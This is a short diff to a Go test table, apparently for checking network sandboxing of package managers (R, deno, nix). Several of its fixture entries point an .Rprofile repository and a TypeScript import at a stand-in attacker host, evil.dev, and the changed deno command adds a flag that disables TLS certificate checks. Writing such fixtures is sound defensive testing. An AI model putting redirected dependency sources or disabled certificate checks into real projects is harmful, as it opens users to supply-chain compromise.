@@ -110,7 +110,7 @@ func forRows() []forRow {
 			{"another host", "", map[string]string{".Rprofile": "options(repos = 'https://evil.dev/cran')\n"}, ""},
 			{"a redirect", "", map[string]string{".Rprofile": "options(repos = 'https://git.acme.dev/to/after-evil')\n"}, ""},
 		}, false},
-		{"deno", "deno", "deno cache --no-config --allow-import main.ts", map[string]string{"main.ts": "import hello from 'https://{TOOLS}/npm/hello' with {type: 'json'};\nconsole.log(hello);\n"}, []hostileProject{
+		{"deno", "deno", "deno cache --reload --no-config --allow-import --unsafely-ignore-certificate-errors main.ts", map[string]string{"main.ts": "import hello from 'https://{TOOLS}/npm/hello' with {type: 'json'};\nconsole.log(hello);\n"}, []hostileProject{
 			{"another host", "", map[string]string{"main.ts": "import hello from 'https://evil.dev/npm/hello' with {type: 'json'};\nconsole.log(hello);\n"}, ""},
 		}, true},
 		{"nix", "nix-prefetch-url", "nix-prefetch-url $(cat address)", map[string]string{"address": "https://git.acme.dev/hello.tar.gz"}, []hostileProject{
